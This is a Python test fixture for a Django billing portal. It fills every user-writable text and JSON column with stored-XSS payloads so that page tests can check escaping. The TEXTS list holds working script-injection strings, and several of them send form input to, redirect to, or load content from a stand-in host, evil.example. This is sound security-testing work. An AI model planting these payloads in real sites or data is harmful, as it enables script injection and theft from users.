"""Texts that want to be markup, in every text of the cast's rows; made in the actor's process.

A row of every table that belongs to a connection is made where there is none, notes, searches and batches by name, and
every column that outsiders can fill is overwritten: new tables and columns are met without being named here. What stays
as it was written is written so.
"""

from collections.abc import Iterator, Mapping, Sequence
from datetime import timedelta
from typing import Any

from django.apps import apps
from django.db import models

from billing import clock
from billing.approvals.models import Approval, Cause
from billing.audit.actor import SYSTEM
from billing.commands.batch import approval_kind_of
from billing.commands.models import CommandBatch, CommandExchange, CommandKind, CommandState
from billing.crypto import EncryptedField
from billing.merchants.models import Merchant
from billing.notes.add import add_note
from billing.notes.models import Audience, Subject, SubjectKind
from billing.payments.models import Payment
from billing.payouts.book import book_movements
from billing.payouts.models import BalanceTransaction
from billing.providers.events import Booking
from billing.providers.models import ProviderAccount
from billing.sync.models import SyncRun
from billing.webhooks.models import WebhookAttempt, WebhookEvent
from portal.accounts.known_device import KnownDevice
from portal.accounts.session import Session
from portal.accounts.user import User
from portal.database import KEPT
from portal.web.search.recent import remember_search
from tests.billing import deliveries
from tests.portal.commands import write_command
from tests.trust.cast import MODES

OURS = {"billing", "disputes", "reports", "portal"}
# Stands in every text, so that a page that shows one can be told from a page that shows none.
MARK = "h0stile"
TEXTS = (
    f'"><b data-hostile onmouseover="alert(1)">{MARK}</b>',
    f"<script data-hostile>alert('{MARK}')</script>",
    f"'><img data-hostile src=x onerror=alert(1)>{MARK}",
    f"</title></textarea></style></script></template><svg data-hostile onload=alert(1)>{MARK}",
    f"javascript:alert('{MARK}')//",
    f'<a data-hostile href="javascript:alert(1)">{MARK}</a>',
    '{{ "<i data-hostile>"|safe }}{% now "Y" %}' + MARK,
    f'<iframe data-hostile srcdoc="<script>parent.alert(1)</script>">{MARK}',
    f"<form data-hostile action=//evil.example><input name=q>{MARK}",
    f'<meta data-hostile http-equiv=refresh content="0;url=//evil.example">{MARK}',
    f'{MARK}" autofocus onfocus=alert(1) data-hostile x="',
    f"<base data-hostile href=//evil.example/>{MARK}",
    f"&lt;b data-hostile&gt;{MARK}&#60;i data-hostile&#62;",
    f"\u202e{MARK}<b data-hostile>",
    f'<math data-hostile><mi xlink:href="javascript:alert(1)">{MARK}',
    f"--><b data-hostile>{MARK}<!--]]>",
    f"<b data-hostile hx-get=//evil.example hx-trigger=load>{MARK}",
    f"{MARK}\u2028<link data-hostile rel=stylesheet href=//evil.example/x.css>",
)
# What fits into short columns.
SHORT = ('"><b data-hostile>', "<b data-hostile>", "'><i>", '"><', "<b>")
# Texts that a merchant's money or a lookup hangs on: they come out of a table of ours or were checked at the door.
CHECKED = frozenset(
    {"public_id", "slug", "timezone", "currency", "default_currency", "email", "api_base", "external_id"}
)
# Columns by which our own rows are worked on, and what only we write.
OUR_OWN = {
    "billing.approval": {
        *("kind", "object_id", "digest", "requested_by_kind", "requested_by_id", "decided_by_kind", "decided_by_id"),
    },
    "billing.auditevent": None,
    "billing.balancetransaction": {"booking"},
    "billing.idempotencykey": None,
    "billing.journalentry": None,
    # Of a command that was asked for, the database keeps these.
    "billing.moneycommand": {"parameters", "requested_by_kind", "requested_by_id"},
    "billing.outboxdelivery": None,
    "billing.outboxevent": None,
    "billing.refetch": None,
    "billing.scheduledwork": None,
    "billing.description": None,
    "billing.webhooksecret": None,
    "billing.synccursor": None,
    "billing.membership": None,
    "billing.syncrun": {"cursor", "phase", "state"},
    "billing.provideraccount": {"granted", "external_account", "key_last4"},
    "billing.webhookevent": {"state", "object_type", "object_id", "headers"},
    "billing.webhookattempt": {"result", "effects"},
    "billing.paymentactivity": {"source"},
    "billing.finding": {"kind", "object_type"},
    "billing.note": {"subject_id", "author_kind"},
    "portal.user": {"password", "staff_role", "theme"},
    "portal.session": {"session_key", "session_data"},
    "portal.authenticator": None,
    "portal.draft": None,
    "portal.invitation": None,
    "portal.notice": {"kind", "object_id", "facts"},
    "portal.noticechoice": None,
    "portal.signinbucket": None,
    "portal.staticcode": None,
}


def poison(*, slugs: Sequence[str], shift: int) -> dict[str, Any]:
    """Another ``shift`` puts other texts into the same columns. ``texts``: how many were written; ``objects``: by slug
    and mode, an event whose body says nothing else, and a batch."""
    texts, objects = 0, {}
    for slug in slugs:
        merchant = Merchant.objects.get(slug=slug)
        for mode, livemode in MODES.items():
            account = ProviderAccount.objects.for_merchant(merchant, livemode).earliest("created_at")
            for model in _models():
                _make_one(model, account)
            made = {"event": _deliver(account, shift), "batch": _write_batch(account, shift)}
            objects.setdefault(slug, {})[mode] = made
            book_movements(BalanceTransaction.objects.filter(account=account, booking=Booking.PAYMENT))
            _write_notes(account)
            _remember_searches(merchant, livemode, shift)
        for model in _models():
            texts += sum(_overwrite(row, shift + number) for number, row in enumerate(_rows(model, merchant)))
    return {"texts": texts, "objects": objects}


def _deliver(account: ProviderAccount, shift: int) -> str:
    """Bodies stay as they came, so one comes: the payments' own record from then on."""
    target = deliveries.charge(id=f"ch_{account.pk.hex}{shift}", payment_intent=None, livemode=account.livemode)
    kept = ("id", "object", "currency", "status", "livemode", "created", "amount", "payment_intent")
    hostile = {**_json(target, shift), **{name: target[name] for name in kept}}
    deliveries.deliver(
        account, deliveries.event("charge.succeeded", hostile, at=target["created"], livemode=account.livemode)
    )
    deliveries.process_all()
    event = WebhookEvent.objects.filter(account=account).latest("pk")
    Payment.objects.filter(account=account).update(source_event=event)
    return event.public_id


def _write_batch(account: ProviderAccount, shift: int) -> str:
    """Cents of each payment, so that enough is left of them; it waits for somebody."""
    paid = Payment.objects.filter(account=account, amount_captured__gt=0).order_by("pk")
    place = {"merchant": account.merchant, "livemode": account.livemode, "amount": len(paid), "currency": "EUR"}
    asked = {"requested_by_kind": "user", "requested_by_id": f"usr_{account.pk.hex}", "requested_at": clock.now()}
    names = ("requested_by", "reason", "note")
    rooms = {name: CommandBatch._meta.get_field(name).max_length for name in names}
    texts = {name: _fitting(shift + number, rooms[name]) for number, name in enumerate(names)}
    batch = CommandBatch.objects.create(**place, **asked, **texts, kind=CommandKind.REFUND, count=len(paid))
    for payment in paid:
        write_command(payment, CommandState.REQUESTED, amount=1, batch=batch)
    waits = {"kind": approval_kind_of(batch.kind), "object_id": batch.public_id, "cause": Cause.BATCH}
    Approval.objects.create(**place, **asked, **waits, expires_at=clock.now() + timedelta(days=3))
    return batch.public_id


def _write_notes(account: ProviderAccount) -> None:
    """One on every payment, unless there is one; its words are overwritten like all others."""
    for payment in Payment.objects.filter(account=account):
        add_note(
            merchant=account.merchant,
            livemode=account.livemode,
            subject=Subject(SubjectKind.PAYMENT, payment.public_id),
            text="a note",
            audience=Audience.MERCHANT_AND_STAFF,
            form_key=f"poison {payment.public_id}",
            by=SYSTEM,
        )


def _remember_searches(merchant: Merchant, livemode: bool, shift: int) -> None:
    """They are sealed, so that nothing overwrites them."""
    for number, person in enumerate(User.objects.filter(memberships__merchant=merchant).order_by("pk"), shift):
        remember_search(user_id=person.pk, merchant=merchant, livemode=livemode, text=TEXTS[number % len(TEXTS)])


def _models() -> Iterator[type[models.Model]]:
    return (model for model in with_texts() if model._meta.db_table not in KEPT)


def with_texts() -> Iterator[type[models.Model]]:
    """Those that outsiders can fill with words, whether or not these can be overwritten."""
    return (model for model in apps.get_models() if model._meta.app_label in OURS and _columns(model))


def _columns(model: type[models.Model]) -> "list[models.Field[Any, Any]]":
    kept = OUR_OWN.get(model._meta.label_lower, frozenset())
    if kept is None:
        return []
    texts = (models.CharField, models.TextField, models.JSONField)
    return [
        field
        for field in model._meta.concrete_fields
        if isinstance(field, texts)
        and not isinstance(field, EncryptedField)
        and not field.choices
        and field.name not in CHECKED | set(kept)
    ]


def _rows(model: type[models.Model], merchant: Merchant) -> Iterator[models.Model]:
    path = _path_to_merchant(model)
    if path is not None:
        yield from model._default_manager.filter(**{path: merchant.pk}).order_by("pk")


def _path_to_merchant(model: type[models.Model]) -> str | None:
    if model is Merchant:
        return "pk"
    ways = {
        User: "memberships__merchant",
        Session: "user__memberships__merchant",
        KnownDevice: "user__memberships__merchant",
        WebhookAttempt: "event__merchant",
        CommandExchange: "command__merchant",
    }
    if model in ways:
        return ways[model]
    names = {field.name for field in model._meta.concrete_fields if field.is_relation}
    for name, path in (("merchant", "merchant"), ("account", "account__merchant"), ("payment", "payment__merchant")):
        if name in names:
            return path
    return None


def _make_one(model: type[models.Model], account: ProviderAccount) -> None:
    """A row of this account, unless there is one."""
    names = {field.name for field in model._meta.concrete_fields if field.is_relation}
    if "account" not in names or model._default_manager.filter(account=account).exists():
        return
    values: dict[str, Any] = {"account": account}
    for field in model._meta.concrete_fields:
        if field.name not in values and not field.primary_key:
            value = _value(field, account)
            if value is not None:
                values[field.name] = value
    if model is SyncRun:
        # Its page tells why it stopped.
        values |= {"kind": "backfill", "state": "done", "end": "failed", "tally": {"reason": "", "payout": {"read": 1}}}
    model._default_manager.create(**values)


def _value(field: "models.Field[Any, Any]", account: ProviderAccount) -> Any:
    known = {"merchant": account.merchant, "livemode": account.livemode, "currency": "EUR"}
    known["booking"] = Booking.PAYMENT.value
    if field.name in known:
        return known[field.name]
    if field.name == "payment":
        return Payment.objects.filter(account=account).earliest("pk")
    if field.name == "external_id":
        return f"poison_{field.model._meta.model_name}_{account.public_id}"
    if field.name == "public_id" and not field.has_default():
        return f"psn_{field.model._meta.model_name}{account.pk.hex}"[:40]
    if isinstance(field, models.DateTimeField) and not field.null:
        return clock.now()
    if field.name == "due_by":
        return clock.now() + timedelta(days=3)
    if isinstance(field, models.IntegerField) and not field.null and not field.has_default():
        return 1234
    return None


def _overwrite(row: models.Model, shift: int) -> int:
    changed = []
    for number, field in enumerate(_columns(type(row)), shift):
        old = getattr(row, field.attname)
        new = _json(old, number) if isinstance(field, models.JSONField) else _fitting(number, field.max_length)
        if old is None or new == old:
            continue
        setattr(row, field.attname, new)
        changed.append(field.name)
    if changed:
        type(row)._default_manager.filter(pk=row.pk).update(**{name: getattr(row, name) for name in changed})
    return len(changed)


def _fitting(number: int, room: int | None) -> str:
    text = TEXTS[number % len(TEXTS)]
    if room is None or len(text) <= room:
        return text
    shorter = next((short for short in SHORT if len(short) <= room), "<")
    return shorter[:room]


def _json(value: Any, number: int) -> Any:
    """The same shape with other texts; an empty one gets an entry whose name is hostile, too."""
    if isinstance(value, Mapping):
        told = {key: _json(each, number + place) for place, (key, each) in enumerate(value.items())}
        return told or {TEXTS[number % len(TEXTS)]: TEXTS[(number + 1) % len(TEXTS)]}
    if isinstance(value, list):
        return [_json(each, number + place) for place, each in enumerate(value)]
    return TEXTS[number % len(TEXTS)] if isinstance(value, str) else value
